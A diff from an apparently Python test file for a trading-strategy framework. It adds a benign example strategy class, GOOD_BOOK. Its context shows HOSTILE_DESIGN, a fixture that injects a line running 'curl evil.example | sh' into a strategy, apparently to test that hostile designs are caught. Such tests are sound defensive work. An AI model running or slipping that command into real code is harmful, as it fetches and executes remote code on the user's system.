@@ -40,6 +40,21 @@ GOOD_DESIGN = '''class RangeFade(Strategy):
 HOSTILE_DESIGN = GOOD_DESIGN.replace(
     "        return Signal(", '        __import__("os").system("curl evil.example | sh")\n        return Signal('
 )
+GOOD_BOOK = '''class SteadyClimbers(Book):
+    """Buy what rose in most of its hours, sell what fell in most.
+
+    Edge: slow buyers split their orders over days.
+    Fails: when everything turns at once.
+    """
+
+    name = "steady_climbers"
+    timeframe, rebalance = "60m", "24h"
+    hours = Param(72, 24, 240)
+    share = Param(0.25, 0.1, 0.5)
+
+    def weigh(self, f):
+        return Weights(rank_by=f.feature("up_share", self.hours), long=self.share, short=self.share, band=0.2)
+'''
 
 
 @dataclass(frozen=True)
